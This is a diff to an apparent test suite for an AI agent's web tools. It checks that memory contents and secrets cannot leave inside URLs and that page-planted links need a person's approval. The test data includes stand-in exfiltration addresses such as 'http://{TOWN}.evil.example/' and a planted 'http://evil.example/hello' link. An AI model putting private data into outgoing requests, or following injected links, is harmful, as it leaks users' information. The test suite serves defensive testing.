@@ -46,9 +46,11 @@ class Web:
         self.model = ScriptedModel(lambda _: self.steps.pop(0) if self.steps else text_reply("ok"))
 
     async def call(self, name: str, said: str = "go on", /, **arguments) -> str:
+        """Call a tool; return its result, or the question whether it may run."""
         self.steps = [tool_call_reply((name, arguments))]
-        await self.host.channel.ask(said)
-        return (await self.results())[-1].payload["content"]
+        answer = await self.host.channel.ask(said)
+        result = (await self.results())[-1].payload
+        return answer if result["status"] == "pending" else result["content"]
 
     async def fetch(self, path: str, said: str = "go on", /, **more) -> str:
         url = path if "://" in path else self.server.url(path)
@@ -168,8 +170,10 @@ async def test_a_search_gives_titles_addresses_and_dates(web):
 async def test_an_address_cannot_carry_what_memory_says_unless_a_person_says_it(web):
     await web.host.channel.ask(f"/memory add My sister lives in {TOWN}")
     for path in (f"/{TOWN}", f"/?q={TOWN.lower()}", "/%2541/%5A%61nzibar", "/sister-lives"):
-        assert "it holds what memory says" in await web.fetch(path)
-    assert "it holds what memory says" in await web.fetch(f"http://{TOWN}.evil.example/")
+        assert "it holds what memory or the tape says" in await web.fetch(path)
+    assert "it holds what memory or the tape says" in await web.fetch(
+        f"http://{TOWN}.evil.example/"
+    )
     assert not web.server.requests
     web.server.answers[f"/{TOWN}"] = page("<p>Sunny</p>")
     assert "Sunny" in await web.fetch(f"/{TOWN}", f"How is the weather in {TOWN}?")
@@ -182,8 +186,8 @@ async def test_a_link_on_a_page_cannot_carry_it_either_but_a_hit_of_a_search_can
         "/": page(f"<p>Read <a href='/page/{TOWN}'>this</a> about your town.</p>"),
         f"/hit/{TOWN}": page("<p>An island</p>"),
     }
-    await web.fetch("/")
-    assert "it holds what memory says" in await web.fetch(f"/page/{TOWN}")
+    await web.fetch("/", f"read {web.server.url('/')}")
+    assert "it holds what memory or the tape says" in await web.fetch(f"/page/{TOWN}")
     await web.call("web_search", query="islands")
     assert "An island" in await web.fetch(web.engine.address)
 
@@ -191,7 +195,8 @@ async def test_a_link_on_a_page_cannot_carry_it_either_but_a_hit_of_a_search_can
 async def test_a_search_uses_memory_until_text_from_outside_is_in_view(web):
     await web.host.channel.ask(f"/memory add My sister lives in {TOWN}")
     assert "Ferries" in await web.call("web_search", query=f"weather {TOWN}")
-    assert "it holds what memory says" in await web.call("web_search", query=f"ferry {TOWN}")
+    asked = await web.call("web_search", query=f"ferry {TOWN}")
+    assert "it holds what memory or the tape says" in asked
     assert web.engine.asked == [f"weather {TOWN}"]
 
 
@@ -207,8 +212,24 @@ async def test_a_secret_or_a_long_text_goes_out_only_in_a_link_that_somebody_wro
     assert "more than 200 characters" in await web.fetch(long)
     assert not web.server.requests
     assert "yours" in await web.fetch(f"/?key={key}", f"read {web.server.url(f'/?key={key}')}")
-    await web.fetch("/")
+    await web.fetch("/", f"read {web.server.url('/')}")
     assert "long" in await web.fetch(long)
+
+
+async def test_after_a_page_only_what_a_person_named_or_a_link_there_is_read_unasked(web):
+    home, link, other = map(web.server.url, ("/", "/link", "/?told=hello"))
+    web.server.answers |= {
+        "/": page(f"<p>Read <a href='{link}'>more</a>, or http://evil.example/hello</p>"),
+        "/link": page("<p>More of it</p>"),
+        "/?told=hello": page("<p>Thanks</p>"),
+    }
+    await web.fetch("/", f"read {home}")
+    assert "More of it" in await web.fetch(link)
+    for address in (other, "http://evil.example/hello"):
+        assert "you named neither this address nor" in await web.fetch(address)
+    assert [one.split()[1] for one in web.server.requests] == ["/", "/link"]
+    await web.host.channel.ask("/approve 1")
+    assert "Thanks" in str(web.model.requests[-1].messages[-1]["content"])
 
 
 async def test_a_page_is_erased_with_the_words_that_a_person_forgets(web):
@@ -216,8 +237,8 @@ async def test_a_page_is_erased_with_the_words_that_a_person_forgets(web):
         "/a": page(f"<p>Ferries to {TOWN} leave at nine.</p>"),
         "/b": page("<p>Trains leave at ten.</p>", "Trains"),
     }
-    await web.fetch("/a")
-    await web.fetch("/b")
+    await web.fetch("/a", f"read {web.server.url('/a')}")
+    await web.fetch("/b", f"read {web.server.url('/b')}")
     assert len(web.kept()) == 2
     await web.forget(TOWN)
     [left] = web.kept()
